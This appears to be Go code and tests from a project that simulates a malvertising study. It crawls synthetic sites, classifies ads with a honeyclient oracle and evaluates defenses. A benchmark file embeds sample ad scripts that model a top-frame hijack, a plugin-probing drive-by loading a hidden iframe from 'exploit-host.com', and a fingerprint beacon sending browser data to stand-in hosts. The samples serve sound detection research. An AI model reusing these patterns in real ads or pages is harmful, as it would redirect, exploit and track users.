package madave

import (
	"testing"

	"madave/internal/fuzzutil/leakcheck"
)

// TestSoakFidelityAtScale runs a larger study (about a tenth of the full
// paper-style crawl set, five refreshes) and requires every paper-shape
// fidelity check to pass plus near-perfect oracle quality. Skipped under
// -short.
func TestSoakFidelityAtScale(t *testing.T) {
	if testing.Short() {
		t.Skip("soak test skipped in -short mode")
	}
	snap := leakcheck.Before()
	cfg := DefaultConfig()
	cfg.Seed = 3030
	cfg.CrawlSites = 2500
	cfg.Crawl.Refreshes = 5
	cfg.Crawl.Parallelism = 8
	s, err := NewStudy(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r := s.Run()
	if r.Corpus.Len() < 20_000 {
		t.Fatalf("soak corpus only %d ads", r.Corpus.Len())
	}
	checks := PaperChecks(r.Report)
	for _, c := range checks {
		if !c.Pass {
			t.Errorf("FAILED claim %q: paper %s, measured %s", c.Claim, c.Paper, c.Measured)
		}
	}
	v, err := s.Validate(r.Corpus, r.Oracle)
	if err != nil {
		t.Fatal(err)
	}
	if v.Precision() < 0.98 || v.Recall() < 0.95 {
		t.Fatalf("oracle quality at scale: %s", v)
	}
	snap.Check(t)
}
