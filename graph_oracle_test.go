package madave

import (
	"bytes"
	"context"
	"fmt"
	"sort"
	"strings"
	"testing"

	"madave/internal/journal"
	"madave/internal/stream"
)

// graphRun executes crawl + classification for one configuration and returns
// the same three fingerprints as cacheRun plus the rendered base report —
// the artifacts the graph-on/off gate compares byte-for-byte.
func graphRun(t *testing.T, cfg Config) (stats, hashes, incidents, rendered string, res *OracleResult) {
	t.Helper()
	s, err := NewStudy(cfg)
	if err != nil {
		t.Fatal(err)
	}
	corp, st := s.Crawl()
	res = s.Classify(corp)
	rep := s.Analyze(corp, res, st)

	hs := make([]string, 0, corp.Len())
	for _, ad := range corp.All() {
		hs = append(hs, ad.Hash)
	}
	sort.Strings(hs)

	incs := make([]string, 0, len(res.Incidents))
	for _, inc := range res.Incidents {
		incs = append(incs, fmt.Sprintf("%s|%s|%s", inc.AdHash, inc.Category, inc.Evidence))
	}
	sort.Strings(incs)

	stats = fmt.Sprintf("%+v|scanned=%d|malicious=%d|degraded=%d", *st, res.Scanned, res.MaliciousCount(), res.Degraded)
	return stats, strings.Join(hs, "\n"), strings.Join(incs, "\n"), rep.RenderText(), res
}

// TestGraphOracleDeterminism is the acceptance gate for the flow-graph
// oracle's observe-only contract: a study with the graph oracle enabled must
// produce byte-identical base statistics — crawl stats, corpus, incidents,
// and the rendered report — to the same seed with it off, serial or
// parallel, cached or not. The graph's own verdicts land only in the
// additive Result fields.
func TestGraphOracleDeterminism(t *testing.T) {
	if testing.Short() {
		t.Skip("graph determinism skipped in -short mode")
	}
	const seed = 3131

	base := telemetryStudyConfig(seed)
	on := base
	on.GraphOracle = true

	sOff, hOff, iOff, rOff, _ := graphRun(t, base)
	sOn, hOn, iOn, rOn, resOn := graphRun(t, on)
	if resOn.GraphScanned == 0 {
		t.Fatal("graph oracle enabled but no ad carried a graph summary")
	}
	if sOn != sOff {
		t.Fatalf("stats diverged graph-on vs graph-off:\n on: %s\noff: %s", sOn, sOff)
	}
	if hOn != hOff {
		t.Fatal("corpus diverged graph-on vs graph-off")
	}
	if iOn != iOff {
		t.Fatalf("incidents diverged graph-on vs graph-off:\n on: %s\noff: %s", iOn, iOff)
	}
	if rOn != rOff {
		t.Fatal("rendered base report diverged graph-on vs graph-off")
	}

	// Worker-interleaving independence: the graph verdicts themselves (not
	// just the base stats) must match between serial and parallel runs.
	serial := on
	serial.Crawl.Parallelism = 1
	serial.OracleParallelism = 1
	sSer, hSer, iSer, _, resSer := graphRun(t, serial)
	if sSer != sOn || hSer != hOn || iSer != iOn {
		t.Fatal("graph-on study depends on worker interleaving")
	}
	if gs, gp := graphDigest(resSer), graphDigest(resOn); gs != gp {
		t.Fatalf("graph findings depend on worker interleaving:\nserial: %s\nparallel: %s", gs, gp)
	}

	// Cache transparency: a cached graph-on run replays the same graph
	// verdicts (reports are pure functions of their keys, graph included).
	cached := on
	cached.Cache.Enabled = true
	sC, hC, iC, _, resC := graphRun(t, cached)
	if sC != sOn || hC != hOn || iC != iOn {
		t.Fatal("graph-on study depends on the report cache")
	}
	if gc, gp := graphDigest(resC), graphDigest(resOn); gc != gp {
		t.Fatalf("graph findings depend on the report cache:\ncached: %s\nuncached: %s", gc, gp)
	}
}

// graphDigest renders a Result's graph findings in canonical sorted form.
func graphDigest(res *OracleResult) string {
	out := make([]string, 0, len(res.GraphFindings))
	for _, gf := range res.GraphFindings {
		out = append(out, fmt.Sprintf("%s|%s|chain=%d", gf.AdHash, strings.Join(gf.Signals, ","), gf.Features.ChainDepth))
	}
	sort.Strings(out)
	return fmt.Sprintf("scanned=%d\n%s", res.GraphScanned, strings.Join(out, "\n"))
}

// TestGraphStreamDeterminism proves the graph features survive the streaming
// commit path without perturbing it: the canonical StreamSummary JSON is
// byte-identical with the graph oracle on or off, while the separate
// GraphSummary artifact carries the folded graph verdicts.
func TestGraphStreamDeterminism(t *testing.T) {
	if testing.Short() {
		t.Skip("graph stream determinism skipped in -short mode")
	}
	const seed = 3132

	run := func(graphOn bool) *stream.RunResult {
		cfg := telemetryStudyConfig(seed)
		cfg.GraphOracle = graphOn
		study, err := NewStudy(cfg)
		if err != nil {
			t.Fatal(err)
		}
		svc, err := stream.NewService(study, stream.ServiceConfig{Journal: journal.NewMem()})
		if err != nil {
			t.Fatal(err)
		}
		res, err := svc.Run(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		return res
	}

	off := run(false)
	on := run(true)
	if !bytes.Equal(on.Summary.JSON(), off.Summary.JSON()) {
		t.Fatalf("StreamSummary diverged graph-on vs graph-off:\n on: %s\noff: %s",
			on.Summary.JSON(), off.Summary.JSON())
	}
	if off.Graph.Scanned != 0 {
		t.Fatalf("graph-off run reported graph aggregates: %+v", off.Graph)
	}
	if on.Graph.Scanned == 0 {
		t.Fatal("graph-on streaming run folded no graph records")
	}
	if on.Graph.Scanned < on.Summary.AdFrames {
		t.Fatalf("graph summaries lost in the commit path: scanned %d of %d ad frames",
			on.Graph.Scanned, on.Summary.AdFrames)
	}
	// Replays are deterministic: a second graph-on run folds to the same
	// graph aggregate bytes.
	if again := run(true); !bytes.Equal(again.Graph.JSON(), on.Graph.JSON()) {
		t.Fatalf("graph aggregate not deterministic:\n 1: %s\n 2: %s", on.Graph.JSON(), again.Graph.JSON())
	}
}

// TestGraphOracleRecoversEvasion is the measurable-improvement gate: with
// the honeyclient's string-level detectors blinded (the DESIGN.md ablation
// toggles — no hijack detection, no redirect heuristics, no behavioural
// model), the base oracle misses campaigns it normally catches. The
// structural graph component keeps firing — an attack that hides its strings
// still has to move requests through frames and scripts — so folding it in
// must recover recall without giving up precision.
func TestGraphOracleRecoversEvasion(t *testing.T) {
	if testing.Short() {
		t.Skip("graph evasion ablation skipped in -short mode")
	}
	cfg := telemetryStudyConfig(3133)
	cfg.CrawlSites = 120
	cfg.GraphOracle = true
	s, err := NewStudy(cfg)
	if err != nil {
		t.Fatal(err)
	}
	s.Oracle.Honey.DisableHijackDetection = true
	s.Oracle.Honey.DisableRedirectHeuristics = true
	s.Oracle.Honey.DisableModel = true

	corp, _ := s.Crawl()
	res := s.Classify(corp)
	v, err := s.Validate(corp, res)
	if err != nil {
		t.Fatal(err)
	}
	if !v.GraphEnabled {
		t.Fatal("validation did not see graph verdicts")
	}
	if v.FalseNegatives == 0 {
		t.Fatalf("ablation did not blind the base oracle (FN=0): %s", v.String())
	}
	if v.CombinedRecall() <= v.Recall() {
		t.Fatalf("graph component did not recover recall: base %.3f vs combined %.3f\n%s",
			v.Recall(), v.CombinedRecall(), v.String())
	}
	if v.CombinedPrecision() < v.Precision() {
		t.Fatalf("graph component cost precision: base %.3f vs combined %.3f\n%s",
			v.Precision(), v.CombinedPrecision(), v.String())
	}
	t.Logf("ablated base: precision %.3f recall %.3f; with graph: precision %.3f recall %.3f",
		v.Precision(), v.Recall(), v.CombinedPrecision(), v.CombinedRecall())
}
