package madave

// BenchmarkMinijsCompiled* measure the script engine under the honeyclient's
// real execution pattern: the same ad creatives replayed impression after
// impression, each run by a fresh interpreter. Cold pays hash+parse+compile
// on every script (first sight); Warm is the steady state where the shared
// code cache serves compiled bytecode and only VM execution remains;
// TreeWalk is the seed engine this PR replaced — Interp.Run re-parses the
// source and walks the AST on every execution, which is exactly what the
// browser did before the code cache existed. TestEmitBenchPipeline gates
// Warm strictly faster than TreeWalk — the point of the compiler pipeline.

import (
	"context"
	"testing"

	"madave/internal/minijs"
)

// benchMinijsStubs recreates the browser bindings the creatives touch, so
// the scripts below run in a bare interpreter the way they do in the
// honeyclient's instrumented DOM.
const benchMinijsStubs = `
var document = { write: function(s) { return s.length; } };
var navigator = { plugins: [
	{ name: "Shockwave Flash", version: 10 },
	{ name: "Java", version: 7 },
	{ name: "QuickTime", version: 7 } ] };
navigator.plugins.length = 3;
var screen = { width: 1024, height: 768 };
var top = {}; var window = {};
`

// benchMinijsScripts are the adserver's creative shapes verbatim: a classic
// document.write banner, a §2.3 top-frame hijack, a §2.1 plugin-probing
// drive-by, and a fingerprint-beacon model-only creative.
var benchMinijsScripts = []string{
	benchMinijsStubs + `
var land = "http://www.clicks-net.com/offer?c=cmp-00042&imp=deadbeef";
document.write('<a href="' + land + '"><img src="http://cdn-ads.com/banners/b1_cmp-00042.png?imp=deadbeef" width="300" height="250"></a>');`,

	benchMinijsStubs + `
document.write('<img src="http://cdn-ads.com/banners/b0_cmp-00107.png?imp=beefcafe" width="300" height="250">');
top.location = "http://lp-prizes.com/win?imp=beefcafe";`,

	benchMinijsStubs + `
document.write('<img src="http://cdn-ads.com/banners/b2_cmp-00311.png?imp=feedface" width="728" height="90">');
var found = false;
var ps = navigator.plugins;
for (var i = 0; i < ps.length; i++) {
	if (ps[i].name == "Shockwave Flash" && ps[i].version < 11) { found = true; }
	if (ps[i].name == "Java" && ps[i].version < 8) { found = true; }
}
if (found) {
	document.write('<iframe src="http://exploit-host.com/exploit?imp=feedface" width="1" height="1"></iframe>');
}`,

	benchMinijsStubs + `
var fp = "";
var ps = navigator.plugins;
for (var i = 0; i < ps.length; i++) { fp += ps[i].name + ":" + ps[i].version + ";"; }
fp += screen.width + "x" + screen.height;
document.write('<img src="http://stat1-00555.com/px.gif?d=' + escape(fp) + '" width="1" height="1">');
document.write('<img src="http://stat2-00555.com/px.gif?imp=cafebabe" width="1" height="1">');
document.write('<img src="http://stat3-00555.com/px.gif?r=' + Math.floor(Math.random() * 100000) + '" width="1" height="1">');
document.write('<img src="http://cdn-ads.com/banners/b3_cmp-00555.png?imp=cafebabe" width="300" height="250">');`,
}

// benchMinijsCompiledRun replays every creative once through cc and a fresh
// interpreter — the honeyclient's per-frame pattern on the compiled path.
func benchMinijsCompiledRun(b *testing.B, cc *minijs.CodeCache) {
	b.Helper()
	for _, src := range benchMinijsScripts {
		prog, _, err := cc.Load(context.Background(), src, true)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := minijs.New().RunProgram(prog); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkMinijsCompiledCold pays the full hash+parse+compile on every
// script: a fresh code cache per iteration means nothing is ever warm.
func BenchmarkMinijsCompiledCold(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		benchMinijsCompiledRun(b, minijs.NewCodeCache(0, nil))
	}
}

// BenchmarkMinijsCompiledWarm is the steady state: one shared cache, every
// Load a hit, each iteration hash lookup plus bytecode execution.
func BenchmarkMinijsCompiledWarm(b *testing.B) {
	cc := minijs.NewCodeCache(0, nil)
	benchMinijsCompiledRun(b, cc)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		benchMinijsCompiledRun(b, cc)
	}
}

// BenchmarkMinijsTreeWalk replays the identical creatives on the seed
// engine: parse the source and tree-walk the AST on every execution, with
// no code cache anywhere — each impression pays the whole pipeline again.
func BenchmarkMinijsTreeWalk(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		for _, src := range benchMinijsScripts {
			in := minijs.New()
			in.UseVM = false
			if _, err := in.Run(src); err != nil {
				b.Fatal(err)
			}
		}
	}
}
