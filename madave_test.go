package madave

import (
	"bytes"
	"strings"
	"sync"
	"testing"
)

var (
	once sync.Once
	fixS *Study
	fixR *Results
)

func runOnce(t *testing.T) (*Study, *Results) {
	t.Helper()
	once.Do(func() {
		cfg := DefaultConfig()
		cfg.Seed = 33
		cfg.CrawlSites = 400
		s, err := NewStudy(cfg)
		if err != nil {
			panic(err)
		}
		fixS = s
		fixR = s.Run()
	})
	return fixS, fixR
}

func TestPublicRun(t *testing.T) {
	_, r := runOnce(t)
	if r.Corpus.Len() == 0 {
		t.Fatal("empty corpus")
	}
	if r.Oracle.MaliciousCount() == 0 {
		t.Fatal("no incidents")
	}
	text := r.Report.RenderText()
	if !strings.Contains(text, "Table 1") || !strings.Contains(text, "Figure 5") {
		t.Fatalf("report:\n%s", text)
	}
}

func TestCategoriesExported(t *testing.T) {
	cats := Categories()
	if len(cats) != 6 || cats[0] != CatBlacklists {
		t.Fatalf("categories = %v", cats)
	}
}

func TestEvaluateDefenses(t *testing.T) {
	s, r := runOnce(t)
	cmps, err := EvaluateDefenses(s, r)
	if err != nil {
		t.Fatal(err)
	}
	if len(cmps) != 6 {
		t.Fatalf("defenses = %d", len(cmps))
	}
	names := map[string]bool{}
	for _, c := range cmps {
		names[c.Name] = true
		if c.String() == "" {
			t.Fatal("empty rendering")
		}
	}
	for _, want := range []string{"shared-blacklist", "penalize-networks", "ad-path-guard", "iframe-sandbox", "adblock", "adblock-replay"} {
		if !names[want] {
			t.Fatalf("missing defense %q in %v", want, names)
		}
	}
}

func TestDeterministicRuns(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Seed = 55
	cfg.CrawlSites = 120
	cfg.Crawl.Refreshes = 2
	a, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if a.Corpus.Len() != b.Corpus.Len() {
		t.Fatalf("corpus sizes differ: %d vs %d", a.Corpus.Len(), b.Corpus.Len())
	}
	if a.Oracle.MaliciousCount() != b.Oracle.MaliciousCount() {
		t.Fatalf("incident counts differ: %d vs %d",
			a.Oracle.MaliciousCount(), b.Oracle.MaliciousCount())
	}
	for cat, n := range a.Oracle.ByCategory {
		if b.Oracle.ByCategory[cat] != n {
			t.Fatalf("category %s differs: %d vs %d", cat, n, b.Oracle.ByCategory[cat])
		}
	}
}

func TestTimelineAndConcentration(t *testing.T) {
	_, r := runOnce(t)
	tl := Timeline(r.Corpus, r.Oracle)
	if len(tl) == 0 {
		t.Fatal("empty timeline")
	}
	totalAds := 0
	for _, p := range tl {
		totalAds += p.Ads
	}
	if totalAds != r.Corpus.Len() {
		t.Fatalf("timeline ads %d != corpus %d", totalAds, r.Corpus.Len())
	}
	conc := Concentrate(r.Report)
	if conc.TopShare <= 0 || conc.TopShare > 1 {
		t.Fatalf("concentration = %+v", conc)
	}
	if conc.Top3Share < conc.TopShare {
		t.Fatal("top3 < top1")
	}
}

func TestCorpusSaveLoadViaFacade(t *testing.T) {
	_, r := runOnce(t)
	var buf bytes.Buffer
	if err := r.Corpus.Save(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := LoadCorpus(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if loaded.Len() != r.Corpus.Len() {
		t.Fatalf("loaded %d != %d", loaded.Len(), r.Corpus.Len())
	}
	if NewCorpus().Len() != 0 {
		t.Fatal("NewCorpus should be empty")
	}
}

func TestStudyValidateFacade(t *testing.T) {
	s, r := runOnce(t)
	v, err := s.Validate(r.Corpus, r.Oracle)
	if err != nil {
		t.Fatal(err)
	}
	if v.Precision() < 0.9 || v.Recall() < 0.85 {
		t.Fatalf("oracle quality: %s", v)
	}
}
