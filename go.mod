module madave

go 1.22
