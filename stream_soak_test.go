package madave

// The streaming soaks are the acceptance gate for the crash-safe service:
// a chaotic streaming run repeatedly killed mid-stream and recovered from
// its file journal must land on byte-identical statistics, wind down every
// goroutine, and keep memory flat while shedding under overload.

import (
	"bytes"
	"context"
	"path/filepath"
	"runtime"
	"testing"
	"time"

	"madave/internal/fuzzutil/leakcheck"
	"madave/internal/journal"
	"madave/internal/stream"
)

// streamSoakService builds a fresh study + streaming service over the given
// backend — a new service per leg models a process restart.
func streamSoakService(t *testing.T, seed uint64, b journal.Backend, mut func(*stream.ServiceConfig)) *stream.Service {
	t.Helper()
	study, err := NewStudy(chaosStudyConfig(seed))
	if err != nil {
		t.Fatal(err)
	}
	cfg := stream.ServiceConfig{Journal: b, CheckpointEvery: 16}
	if mut != nil {
		mut(&cfg)
	}
	svc, err := stream.NewService(study, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return svc
}

// TestStreamKillRecoverSoak is the headline invariant under the chaos
// profile and the file journal: a streaming run killed (drained) at several
// staggered points, each time resumed by a brand-new service over the same
// journal file — with checkpoint compaction active throughout — produces the
// byte-identical summary of an uninterrupted same-seed run, and every leg
// winds its goroutines down.
func TestStreamKillRecoverSoak(t *testing.T) {
	if testing.Short() {
		t.Skip("stream soak skipped in -short mode")
	}
	snap := leakcheck.Before()
	const seed = 4040

	baseline, err := streamSoakService(t, seed, journal.NewMem(), nil).Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if baseline.Summary.Visits == 0 || baseline.Summary.AdFrames == 0 {
		t.Fatalf("degenerate baseline: %+v", baseline.Summary)
	}

	path := filepath.Join(t.TempDir(), "study.wal")
	// Kill points stagger across the run; later legs get longer before the
	// axe so the soak always makes forward progress.
	kills := []time.Duration{
		10 * time.Millisecond, 25 * time.Millisecond, 40 * time.Millisecond,
		80 * time.Millisecond, 160 * time.Millisecond, 320 * time.Millisecond,
		640 * time.Millisecond, 1280 * time.Millisecond,
	}
	var final *stream.RunResult
	recoveredLegs := 0
	for leg := 0; final == nil; leg++ {
		fb, err := journal.OpenFile(path)
		if err != nil {
			t.Fatalf("leg %d: reopen journal: %v", leg, err)
		}
		svc := streamSoakService(t, seed, fb, nil)
		if svc.Recovered() > 0 {
			recoveredLegs++
		}
		ctx, cancel := context.WithCancel(context.Background())
		if leg < len(kills) {
			timer := time.AfterFunc(kills[leg], cancel)
			defer timer.Stop()
		}
		res, err := svc.Run(ctx)
		cancel()
		if cerr := fb.Close(); cerr != nil {
			t.Fatalf("leg %d: close journal: %v", leg, cerr)
		}
		if err != nil {
			t.Fatalf("leg %d: %v", leg, err)
		}
		if res.Summary.Visits > baseline.Summary.Visits {
			t.Fatalf("leg %d overshot: %d visits, baseline %d", leg, res.Summary.Visits, baseline.Summary.Visits)
		}
		if res.Summary.Visits == baseline.Summary.Visits {
			final = res
		}
	}
	if recoveredLegs == 0 {
		t.Fatal("no leg recovered journaled progress; the kill schedule never interrupted the run")
	}
	if !bytes.Equal(final.Summary.JSON(), baseline.Summary.JSON()) {
		t.Fatalf("killed-and-recovered summary differs from uninterrupted baseline:\n%s\n%s",
			final.Summary.JSON(), baseline.Summary.JSON())
	}
	snap.Check(t)
}

// TestStreamOverloadShed drives serve mode into sustained overload: a tiny
// admission buffer and queues against a Zipf impression stream. Every shed
// must be counted (conservation: offered = delivered + shed), everything
// delivered must commit, and the heap must stay flat — streaming aggregation
// means memory scales with distinct ads, not with impressions processed.
func TestStreamOverloadShed(t *testing.T) {
	if testing.Short() {
		t.Skip("stream soak skipped in -short mode")
	}
	snap := leakcheck.Before()

	var before runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)

	svc := streamSoakService(t, 5050, journal.NewMem(), func(c *stream.ServiceConfig) {
		c.Serve = true
		c.MaxImpressions = 1200
		c.ShedCapacity = 4
		c.CrawlWorkers = 2
		c.AnalyzeWorkers = 2
		c.Stream.Queue = 4
	})
	res, err := svc.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}

	st := res.Ops.Shed
	if st.Offered != 1200 {
		t.Fatalf("offered = %d, want 1200", st.Offered)
	}
	if st.Shed == 0 {
		t.Fatal("sustained overload shed nothing; admission control is not engaging")
	}
	if st.Shed+st.Delivered != st.Offered || st.Buffered != 0 {
		t.Fatalf("shed accounting does not conserve: %+v", st)
	}
	if res.Ops.Committed != st.Delivered {
		t.Fatalf("committed %d != delivered %d: admitted impressions must never vanish silently",
			res.Ops.Committed, st.Delivered)
	}

	var after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&after)
	if growth := int64(after.HeapAlloc) - int64(before.HeapAlloc); growth > 48<<20 {
		t.Fatalf("heap grew %d bytes over the soak; streaming aggregation should keep it flat", growth)
	}
	snap.Check(t)
}
