package madave_test

import (
	"fmt"
	"log"

	"madave"
)

// Example runs a miniature study end-to-end and grades it against the
// paper's headline claims. Results are deterministic in the seed.
func Example() {
	cfg := madave.DefaultConfig()
	cfg.Seed = 2014
	cfg.CrawlSites = 300

	results, err := madave.Run(cfg)
	if err != nil {
		log.Fatal(err)
	}

	checks := madave.PaperChecks(results.Report)
	passed := 0
	for _, c := range checks {
		if c.Pass {
			passed++
		}
	}
	fmt.Printf("ads collected: %d\n", results.Corpus.Len())
	fmt.Printf("fidelity checks: %d/%d\n", passed, len(checks))
	// Output:
	// ads collected: 3615
	// fidelity checks: 16/16
}

// ExampleStudy_Classify shows phase-by-phase control: crawl first, classify
// separately, then analyze.
func ExampleStudy_Classify() {
	cfg := madave.DefaultConfig()
	cfg.Seed = 2014
	cfg.CrawlSites = 150
	cfg.Crawl.Refreshes = 2

	study, err := madave.NewStudy(cfg)
	if err != nil {
		log.Fatal(err)
	}
	corp, stats := study.Crawl()
	verdicts := study.Classify(corp)
	report := study.Analyze(corp, verdicts, stats)

	fmt.Printf("pages: %d, sandboxed ad iframes: %d\n",
		stats.PagesVisited, report.Sandbox.SandboxedAds)
	// Output:
	// pages: 300, sandboxed ad iframes: 0
}
