package madave

import (
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"madave/internal/fuzzutil/leakcheck"
	"madave/internal/memnet"
	"madave/internal/resilient"
)

// chaosStudyConfig is the soak configuration: a third of all requests are
// faulted (latency on top), four racing workers, fast retry policy so the
// soak finishes in seconds. VisitTimeout is disabled — the per-attempt
// deadline bounds stalls deterministically. That deadline (250ms) is far
// above any real in-memory dispatch and far below nothing a stall won't
// hit, so which attempts time out never depends on machine speed.
func chaosStudyConfig(seed uint64) Config {
	cfg := DefaultConfig()
	cfg.Seed = seed
	cfg.CrawlSites = 80
	cfg.Crawl.Days = 1
	cfg.Crawl.Refreshes = 2
	cfg.Crawl.Parallelism = 4
	cfg.Crawl.VisitTimeout = -1
	cfg.Crawl.Retry = resilient.Policy{
		MaxAttempts:    3,
		BaseDelay:      time.Microsecond,
		MaxDelay:       20 * time.Microsecond,
		AttemptTimeout: 250 * time.Millisecond,
	}
	cfg.AnalysisRetry = cfg.Crawl.Retry
	cfg.OracleParallelism = 4
	prof := memnet.UniformProfile(0.35)
	cfg.Chaos = &prof
	return cfg
}

// chaosRun executes crawl + classification under chaos and returns the
// stats string, the sorted corpus hash digest, and the oracle result.
func chaosRun(t *testing.T, seed uint64) (string, string, *Results) {
	t.Helper()
	s, err := NewStudy(chaosStudyConfig(seed))
	if err != nil {
		t.Fatal(err)
	}
	corp, st := s.Crawl()
	res := s.Classify(corp)
	rep := s.Analyze(corp, res, st)

	hashes := make([]string, 0, corp.Len())
	for _, ad := range corp.All() {
		hashes = append(hashes, ad.Hash)
	}
	sort.Strings(hashes)
	return fmt.Sprintf("%+v", *st), strings.Join(hashes, "\n"),
		&Results{Corpus: corp, CrawlStats: st, Oracle: res, Report: rep}
}

// TestChaosSoak is the acceptance gate for the fault-injection substrate:
// with ≥30% of requests faulted, the full pipeline (crawl → oracle) must
//
//   - complete without deadlock and leak no goroutines,
//   - produce a non-empty deduplicated corpus,
//   - produce byte-identical crawl statistics and the same corpus across
//     two same-seed runs, and
//   - classify the corpus, counting degraded verdicts instead of dying.
func TestChaosSoak(t *testing.T) {
	if testing.Short() {
		t.Skip("chaos soak skipped in -short mode")
	}
	snap := leakcheck.Before()

	s1, h1, r1 := chaosRun(t, 777)
	s2, h2, _ := chaosRun(t, 777)

	if s1 != s2 {
		t.Fatalf("crawl stats diverged across same-seed chaos runs:\n%s\n%s", s1, s2)
	}
	if h1 != h2 {
		t.Fatal("corpus diverged across same-seed chaos runs")
	}
	if r1.Corpus.Len() == 0 {
		t.Fatal("chaos starved the corpus")
	}
	st := r1.CrawlStats
	if st.Retries == 0 {
		t.Fatalf("no retries under 35%% faults: %+v", st)
	}
	if st.PageErrors != st.NXDomainErrors+st.TimeoutErrors+st.HTTPErrors+st.OtherErrors {
		t.Fatalf("error split does not sum: %+v", st)
	}
	if r1.Oracle.Scanned != r1.Corpus.Len() {
		t.Fatalf("oracle scanned %d of %d", r1.Oracle.Scanned, r1.Corpus.Len())
	}

	// The pipeline must wind down completely: back near the goroutine
	// baseline once the run returns.
	snap.Check(t)
}
