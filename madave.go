package madave

import (
	"io"

	"madave/internal/adnet"
	"madave/internal/analysis"
	"madave/internal/cachex"
	"madave/internal/core"
	"madave/internal/corpus"
	"madave/internal/crawler"
	"madave/internal/defense"
	"madave/internal/netcap"
	"madave/internal/oracle"
	"madave/internal/report"
	"madave/internal/webgen"
)

// Config parameterizes a study run. See core.Config for field semantics;
// the zero Seed keeps the sub-configs' own seeds.
type Config = core.Config

// Study is an assembled simulation: the synthetic web, the ad ecosystem,
// the HTTP universe, and the oracle, ready to crawl and classify.
type Study = core.Study

// Results bundles the outcome of a full run: the corpus, crawl statistics,
// the oracle's incidents, and the analysis report.
type Results = core.Results

// Report holds the reproduced paper results (Table 1, Figures 1-5, the
// §4.2 cluster shares, and the §4.4 sandbox census).
type Report = analysis.Report

// Corpus is the deduplicated advertisement store; Ad is one snapshot.
type (
	Corpus = corpus.Corpus
	Ad     = corpus.Ad
)

// CrawlStats carries collection-phase counters (pages, frames, sandbox
// census).
type CrawlStats = crawler.Stats

// CacheConfig holds the memoization knobs for the oracle pipeline's three
// hot layers (honeyclient, blacklist, avscan); CacheStats is one cache's
// hit/miss/evict/coalesce counters, as returned by Study.CacheStats.
type (
	CacheConfig = core.CacheConfig
	CacheStats  = cachex.Stats
)

// Category is a Table-1 incident category.
type Category = oracle.Category

// OracleResult aggregates a corpus classification; Incident is one verdict.
type (
	OracleResult = oracle.Result
	Incident     = oracle.Incident
)

// GraphFinding is one flow-graph verdict (the fourth oracle component,
// enabled by Config.GraphOracle); GraphStats is the per-network flow-graph
// section of the analysis report (Report.Graph, nil when the oracle is off).
type (
	GraphFinding = oracle.GraphFinding
	GraphStats   = analysis.GraphStats
)

// Incident categories, in Table 1 order.
const (
	CatBlacklists   = oracle.CatBlacklists
	CatSuspRedirect = oracle.CatSuspRedirect
	CatHeuristics   = oracle.CatHeuristics
	CatMaliciousExe = oracle.CatMaliciousExe
	CatMaliciousSWF = oracle.CatMaliciousSWF
	CatModel        = oracle.CatModel
	CatClean        = oracle.CatClean
)

// Categories returns the malicious categories in Table 1 order.
func Categories() []Category { return oracle.Categories() }

// Site is one synthetic publisher website.
type Site = webgen.Site

// Campaign is one advertiser campaign (ground truth; the measurement
// pipeline never consults it).
type Campaign = adnet.Campaign

// Comparison is a countermeasure before/after measurement (§5).
type Comparison = defense.Comparison

// DefaultConfig returns a laptop-scale configuration that preserves every
// distributional property the paper measures. Increase CrawlSites and
// Crawl.Days to approach the paper's full three-month scale.
func DefaultConfig() Config { return core.DefaultConfig() }

// NewStudy assembles the full simulation for phase-by-phase use.
func NewStudy(cfg Config) (*Study, error) { return core.NewStudy(cfg) }

// Validation is the oracle-vs-ground-truth comparison (precision, recall,
// per-kind outcomes). Produced by Study.Validate.
type Validation = core.Validation

// DayPoint is one crawl day's volume and malicious rate.
type DayPoint = analysis.DayPoint

// Timeline computes the per-day ad volume and malicious rate over a
// classified corpus.
func Timeline(c *Corpus, res *OracleResult) []DayPoint {
	return analysis.Timeline(c, res)
}

// Concentration quantifies how malvertising concentrates among networks.
type Concentration = analysis.Concentration

// Concentrate computes the concentration metrics from a report.
func Concentrate(rep *Report) Concentration { return analysis.Concentrate(rep) }

// FidelityCheck is one paper claim graded against measured data.
type FidelityCheck = report.Check

// PaperChecks grades a report against the paper's headline claims — the
// same shapes the test suite asserts.
func PaperChecks(rep *Report) []FidelityCheck { return report.PaperChecks(rep) }

// MarkdownReport renders the full study (tables, figures, projection,
// validation, defenses, fidelity checks) as one Markdown document.
// validation and defenses may be nil/empty.
func MarkdownReport(title string, s *Study, r *Results, v *Validation, defenses []Comparison) string {
	return report.Markdown(report.Input{
		Title:      title,
		Study:      s,
		Results:    r,
		Validation: v,
		Defenses:   defenses,
	})
}

// HostGraph is the host-level redirection/inclusion graph mined from a
// traced crawl (Study.CrawlTraced); Traffic is the trace itself.
type (
	HostGraph = analysis.HostGraph
	Traffic   = netcap.Capture
)

// BuildHostGraph mines a traffic trace into a host graph — arbitration
// hubs, reachability, and publisher-to-payload ad paths.
func BuildHostGraph(trace *Traffic) *HostGraph {
	return analysis.BuildHostGraph(trace.All())
}

// NewCorpus returns an empty advertisement corpus.
func NewCorpus() *Corpus { return corpus.New() }

// LoadCorpus reads a JSON-lines corpus previously written with
// Corpus.Save — the handoff format between the adcrawl and adoracle tools.
func LoadCorpus(r io.Reader) (*Corpus, error) { return corpus.Load(r) }

// Run executes a complete study: crawl (§3.1), oracle classification
// (§3.2), and analysis (§4).
func Run(cfg Config) (*Results, error) {
	s, err := core.NewStudy(cfg)
	if err != nil {
		return nil, err
	}
	return s.Run(), nil
}

// EvaluateDefenses runs the §5 countermeasure suite against a completed
